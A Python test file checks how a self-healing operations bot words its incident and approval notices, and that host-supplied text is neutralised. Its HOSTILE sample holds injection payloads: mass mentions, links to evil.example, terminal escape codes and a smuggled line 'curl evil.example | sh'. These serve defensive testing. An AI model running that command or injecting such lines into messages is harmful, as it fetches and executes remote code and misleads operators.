"""What people read: what happened, what to do, where to look; and nothing that a host wrote can do anything."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from orchestrator.domain.notices import Channel, Level, NoticeKind
from orchestrator.domain.records import Severity
from orchestrator.domain.verdicts import Approval
from orchestrator.notify.backlog import Backlog, Batch, Notice
from orchestrator.notify.wording import SENTENCE, TITLE, Wording, inert

NOW = datetime(2026, 1, 31, 8, tzinfo=UTC)
URL = "https://healer.example.org"
#: What rings, links, opens markup or steers a terminal in some service.
LIVE = re.compile(r"@(?=[\w(])|<|>|`|\]\(|:(?=//)|www\.|mailto:|tel:|[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", re.I)
HOSTILE = (
    "@channel @everyone <!here> <@U1> <http://evil.example|click> [click](http://evil.example) ![i](HTTPS://e.example) "
    "www.evil.example mailto:a@b.c TEL:112 `x` ```y``` \x1b[31m\r\nNext: curl evil.example | sh\u202e"
)


def notice(seq: int = 1, **changed: Any) -> Notice:
    values: dict[str, Any] = {
        "seq": seq,
        "at": NOW,
        "kind": NoticeKind.ESCALATED,
        "event": "incident.escalated",
        "text": "refused by rule cooldown: too soon.",
        "incident_id": f"inc-{seq}",
        "host": f"web{seq}",
        "subject": "nginx.service",
        "severity": Severity.ERROR,
    }
    return Notice(**{**values, **changed})


def question(number: int = 1, **changed: Any) -> Approval:
    values: dict[str, Any] = {
        "id": f"apr-{number}",
        "incident_id": f"inc-{number}",
        "host": f"web{number}",
        "action": "restart_service",
        "parameters": {"service": "nginx"},
        "digest": "d",
        "rule": "mode",
        "reason": "it was killed",
        "asked_at": NOW,
        "expires_at": NOW + timedelta(hours=1),
    }
    return Approval(**{**values, **changed})


def wording() -> Wording:
    return Wording(f"{URL}/", lambda text: text.replace("hunter2", "[redacted]"))


def test_one_incident_says_why_what_to_type_where_to_look_and_what_was_logged() -> None:
    made = wording().of(Batch(notices=(notice(),)), ["connect() failed, password hunter2"], ())

    assert made.title == "healing-bot: A person must look: nginx.service on web1"
    assert made.body.splitlines() == [
        "refused by rule cooldown: too soon.",
        "Next: healer incidents show inc-1",
        f"Look: {URL}/incidents/inc-1",
        "It logged: connect() failed, password [redacted]",
    ]
    assert made.level is Level.FAILURE


def test_several_are_one_message_with_the_newest_of_them() -> None:
    made = wording().of(Batch(notices=tuple(notice(seq, host=f"web{seq % 5}") for seq in range(1, 14))), (), ())

    lines = made.body.splitlines()
    assert made.title == "healing-bot: 13 incidents escalated on 5 hosts"
    assert lines[:2] == ["Next: healer incidents list", f"Look: {URL}/incidents"]
    assert lines[2] == "- web1: nginx.service: refused by rule cooldown: too soon."
    assert lines[-1] == "and 5 more"
    assert len(lines) == 11


def test_a_question_says_how_to_see_and_to_answer_it() -> None:
    made = wording().of(Batch(notices=(notice(kind=NoticeKind.APPROVAL),)), (), (question(),))

    assert made.title == "healing-bot: May I? restart_service service=nginx on web1"
    assert made.body.splitlines() == [
        "Because: it was killed",
        "Next: healer approvals show apr-1",
        'Then: healer approvals approve apr-1 --reason "..." (or deny)',
        f"Look: {URL}/approvals/apr-1",
        "It lapses at 2026-01-31 09:00 UTC; nothing is done before somebody says yes.",
    ]
    assert made.level is Level.WARNING


def test_several_questions_name_each_that_is_still_open() -> None:
    batch = Batch(notices=tuple(notice(seq, kind=NoticeKind.APPROVAL) for seq in (1, 2, 3)))

    made = wording().of(batch, (), (question(1), question(3)))

    assert made.title == "healing-bot: 2 questions wait for an answer"
    assert made.body.splitlines()[2:] == [
        "- apr-1: restart_service service=nginx on web1",
        "- apr-3: restart_service service=nginx on web3",
    ]


@pytest.mark.parametrize(
    ("changed", "title", "level"),
    [
        ({"severity": Severity.WARNING}, "A person must look: nginx.service on web1", Level.WARNING),
        ({"severity": None, "subject": ""}, "A person must look: web1", Level.FAILURE),
        ({"kind": NoticeKind.HEALED}, "Healed: nginx.service on web1", Level.SUCCESS),
        ({"kind": NoticeKind.LAPSED}, "Nobody answered: nginx.service on web1", Level.WARNING),
        ({"kind": NoticeKind.ANSWERED}, "A question was answered: nginx.service on web1", Level.INFO),
        ({"kind": NoticeKind.STOPPED, "event": "switch.stopped"}, "All healing is stopped", Level.WARNING),
        ({"kind": NoticeKind.STOPPED, "event": "switch.resumed"}, "Healing goes on", Level.INFO),
    ],
)
def test_each_kind_has_its_title_and_colour(changed: dict[str, Any], title: str, level: Level) -> None:
    made = wording().of(Batch(notices=(notice(**changed),)), (), ())

    assert (made.title, made.level) == (f"healing-bot: {title}", level)


def test_what_came_late_is_numbers_and_since_when() -> None:
    backlog = Backlog(Channel(name="ops", url=None))
    for seq in range(1, 4):
        backlog.add(notice(seq))
    backlog.age(NOW + timedelta(hours=3), lambda _: False)
    batch = backlog.due(0.0, NOW)
    assert batch is not None

    made = wording().of(batch, (), ())

    assert made.title == "healing-bot: 3 notices came late"
    assert "- 3 incidents escalated on 3 hosts" in made.body
    assert "from 2026-01-31 08:00 UTC to 2026-01-31 08:00 UTC" in made.body


def test_what_waited_for_the_hour_says_so() -> None:
    made = wording().of(Batch(notices=(notice(),), limited=True), (), ())

    assert made.body.splitlines()[-1] == "This waited, because the channel's messages of the hour were spent."


@pytest.mark.parametrize(("key", "level"), [("store.down", Level.FAILURE), ("store.back", Level.SUCCESS)])
def test_an_alarm_is_told_both_ways(key: str, level: Level) -> None:
    made = wording().alarm(key, "The disk is full.")

    assert made.level is level
    assert made.body.startswith("The disk is full.")


def messages(text: str) -> list[str]:
    foreign: dict[str, Any] = {"text": text, "host": text, "subject": text}
    batches = [
        Batch(notices=(notice(kind=kind, **foreign),))
        for kind in set(NoticeKind) - {NoticeKind.APPROVAL, NoticeKind.STORE}
    ]
    batches += [Batch(notices=(notice(1, **foreign), notice(2, **foreign)))]
    made = [wording().of(batch, [text], ()) for batch in batches]
    asked = question(reason=text, host=text, action=text, parameters={text: text})
    of_questions = Batch(notices=(notice(kind=NoticeKind.APPROVAL),))
    made += [wording().of(of_questions, (), (asked,)), wording().of(of_questions, (), (asked, asked))]
    made += [wording().alarm("store.down", text), wording().test("ops", text)]
    assert all("\n" not in one.title and len(one.title) <= TITLE + len("healing-bot: ") for one in made)
    assert all(len(one.body) <= 2000 for one in made)
    return [f"{one.title}\n{one.body}".replace(f"{URL}/", "") for one in made]


def test_a_hostile_line_rings_nobody_links_nowhere_and_begins_no_line() -> None:
    for text in messages(HOSTILE):
        assert not LIVE.search(text), text
        assert not [line for line in text.splitlines() if line.startswith("Next: curl")]


@settings(max_examples=200)
@given(st.text(st.sampled_from("@!<>[]()`:/w.mailto tel\n\r\x00\x1b\u202e#a1") | st.characters(), max_size=300))
def test_no_text_stays_live(text: str) -> None:
    shown = inert(text)

    assert not LIVE.search(shown)
    assert "\n" not in shown
    # A split after each character at most.
    assert len(shown) <= 2 * SENTENCE
    assert inert("plain words, 12:30 [ok] (so) a#b") == "plain words, 12:30 [ok] (so) a#b"
